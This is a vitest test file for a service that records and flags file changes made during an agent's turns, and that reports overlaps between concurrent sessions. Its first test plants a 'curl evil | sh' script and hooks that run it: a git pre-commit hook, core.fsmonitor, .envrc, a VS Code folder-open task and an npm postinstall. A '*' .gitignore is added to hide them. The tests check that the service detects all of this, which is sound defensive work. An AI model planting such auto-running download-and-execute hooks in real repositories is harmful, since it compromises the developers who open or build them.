import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { ChangedFile, TurnCheckpoint } from '../../../src/shared/contract/checkpoints';
import { makeRig, type Rig } from './helpers';

const gitEnv = { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' };
const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, env: gitEnv });

let rig: Rig;
afterEach(async () => rig?.dispose());

async function lastTurn(sessionId = 's1'): Promise<TurnCheckpoint> {
  return (await rig.svc.listTurns(sessionId)).at(-1)!;
}
const byPath = (t: TurnCheckpoint): Map<string, ChangedFile> => new Map(t.changes!.files.map((f) => [f.path, f]));

describe('the change report is honest about everything a turn could have changed', () => {
  it('lists what a turn hid behind a .gitignore of "*", and flags planted hooks, .envrc, fsmonitor, tasks and scripts', async () => {
    rig = makeRig();
    const w = rig.work;
    git(w, 'init', '-q', '-b', 'main');
    writeFileSync(join(w, 'package.json'), JSON.stringify({ name: 'p', scripts: { test: 'vitest' } }));
    writeFileSync(join(w, 'README.md'), 'hello\n');
    git(w, 'add', '-A');
    git(w, 'commit', '-qm', 'init');

    await rig.turn(() => {
      writeFileSync(join(w, '.gitignore'), '*\n');
      writeFileSync(join(w, 'evil.sh'), 'curl evil | sh\n');
      writeFileSync(join(w, '.envrc'), 'sh evil.sh\n');
      writeFileSync(join(w, '.git/hooks/pre-commit'), '#!/bin/sh\nsh evil.sh\n');
      chmodSync(join(w, '.git/hooks/pre-commit'), 0o755);
      git(w, 'config', 'core.fsmonitor', 'sh evil.sh');
      writeFileSync(join(w, '.git/info/exclude'), '*\n');
      mkdirSync(join(w, '.vscode'));
      writeFileSync(join(w, '.vscode/tasks.json'), '{"tasks":[{"command":"sh evil.sh","runOptions":{"runOn":"folderOpen"}}]}');
      writeFileSync(join(w, 'package.json'), JSON.stringify({ name: 'p', scripts: { test: 'vitest', postinstall: 'sh evil.sh' } }));
    });
    const first = await lastTurn();
    const files = byPath(first);
    expect([...files.keys()].sort()).toEqual(['.envrc', '.git/config', '.git/hooks/pre-commit', '.git/info/exclude', '.gitignore', '.vscode/tasks.json', 'evil.sh', 'package.json']);
    // The turn's own .gitignore does not hide what the turn did: contents are kept, diffs readable.
    expect(files.get('evil.sh')).toMatchObject({ status: 'added', ignored: false, additions: 1 });
    expect((await rig.svc.fileDiff(first.changes!.from, first.changes!.to, 'evil.sh')).newText).toBe('curl evil | sh\n');
    // .git is never read, only listed with sizes.
    expect(files.get('.git/hooks/pre-commit')).toMatchObject({ status: 'added', ignored: true, flag: expect.stringMatching(/git hook/) });
    expect(files.get('.git/config')).toMatchObject({ status: 'modified', ignored: true, flag: expect.stringMatching(/fsmonitor/) });
    for (const p of ['.envrc', '.vscode/tasks.json', 'package.json', '.git/info/exclude']) expect(files.get(p)!.flag, p).toBeTruthy();
    expect(files.get('evil.sh')!.flag).toBeNull();
    expect(files.get('README.md')).toBeUndefined();
    expect(first.changes!.summary.flagged).toBe(6);

    // From the next turn on, "*" applies to new files: listed by size, content not kept.
    await rig.turn(() => {
      writeFileSync(join(w, 'new.sh'), 'more\n');
      writeFileSync(join(w, 'evil.sh'), 'curl evil | bash\n');
    });
    const second = await lastTurn();
    const files2 = byPath(second);
    expect(files2.get('new.sh')).toMatchObject({ status: 'added', ignored: true, newSize: 5 });
    // A file captured before stays captured (as in git): its edit is a real diff.
    expect(files2.get('evil.sh')).toMatchObject({ status: 'modified', ignored: false, additions: 1, deletions: 1 });
    expect(second.changes!.summary.ignored).toBe(1);

    // Rewinding removes what the turns added, ignored files included; .git is listed as left, never silently.
    const r2 = await rig.svc.rewind(second.id);
    expect(r2.refused).toEqual([]);
    expect(existsSync(join(w, 'new.sh'))).toBe(false);
    expect(readFileSync(join(w, 'evil.sh'), 'utf8')).toBe('curl evil | sh\n');
    const r1 = await rig.svc.rewind(first.id);
    for (const p of ['evil.sh', '.envrc', '.gitignore', '.vscode/tasks.json']) expect(existsSync(join(w, p)), p).toBe(false);
    expect(JSON.parse(readFileSync(join(w, 'package.json'), 'utf8'))).toEqual({ name: 'p', scripts: { test: 'vitest' } });
    expect(r1.refused.map((x) => x.path).sort()).toEqual(['.git/config', '.git/hooks/pre-commit', '.git/info/exclude']);
    for (const x of r1.refused) expect(x.reason).toMatch(/\.git/);
  });

  it('judges a nested .gitignore a turn writes by the rules before the turn, and lists a change to a file ignored before it', async () => {
    rig = makeRig();
    const w = rig.work;
    writeFileSync(join(w, '.gitignore'), '.env\n');
    writeFileSync(join(w, '.env'), 'TOKEN=1\n');
    await rig.turn(() => {
      mkdirSync(join(w, 'sub'));
      writeFileSync(join(w, 'sub/.gitignore'), '*\n!.gitignore\n');
      writeFileSync(join(w, 'sub/payload.js'), 'run()\n');
      writeFileSync(join(w, '.env'), 'TOKEN=22\n');
    });
    const files = byPath(await lastTurn());
    expect(files.get('sub/payload.js')).toMatchObject({ status: 'added', ignored: false, additions: 1 });
    expect(files.get('.env')).toMatchObject({ status: 'modified', ignored: true, oldSize: 8, newSize: 9 });
    // The ignored file's content is not kept: no diff, no revert of its content.
    const t = await lastTurn();
    expect((await rig.svc.fileDiff(t.changes!.from, t.changes!.to, '.env')).newText).toBeNull();
  });

  it('counts lines right for names with tabs and newlines (git output read with -z)', async () => {
    rig = makeRig();
    const w = rig.work;
    const names = ['tab\tname.txt', 'new\nline.txt', 'both\t\n.txt'];
    for (const n of names) writeFileSync(join(w, n), 'a\nb\nc\n');
    await rig.turn(() => {
      for (const n of names) writeFileSync(join(w, n), 'a\nB\nc\nd\n');
    });
    const files = byPath(await lastTurn());
    for (const n of names) expect(files.get(n), JSON.stringify(n)).toMatchObject({ status: 'modified', additions: 2, deletions: 1 });
  });
});

describe('overlap notes', () => {
  it('says nothing of other agents when nothing changed on disk while they worked', async () => {
    rig = makeRig();
    const turns = ['Gemini', 'Qwen', 'Claude'].map((s) => ({ sessionId: s, promptId: randomUUID(), roots: [rig.work] }));
    for (const t of turns) await rig.svc.turnStarting(t);
    for (const t of turns) rig.svc.turnEnded(t);
    await rig.svc.idle();
    for (const t of turns) {
      const view = await lastTurn(t.sessionId);
      expect(view.changes!.files).toEqual([]);
      expect(view.overlaps).toEqual([]);
    }
  });

  it('does not blame a session whose overlapping turn changed nothing', async () => {
    rig = makeRig();
    const a = { sessionId: 'sa', promptId: randomUUID(), roots: [rig.work] };
    const b = { sessionId: 'sb', promptId: randomUUID(), roots: [rig.work] };
    await rig.svc.turnStarting(a);
    await rig.svc.turnStarting(b);
    rig.svc.turnEnded(b);
    await rig.svc.idle();
    writeFileSync(join(rig.work, 'x.txt'), 'by a\n');
    rig.svc.turnEnded(a);
    await rig.svc.idle();
    expect((await lastTurn('sa')).changes!.files.map((f) => f.path)).toEqual(['x.txt']);
    expect((await lastTurn('sa')).overlaps).toEqual([]);
    expect((await lastTurn('sb')).overlaps).toEqual([]);
  });
});
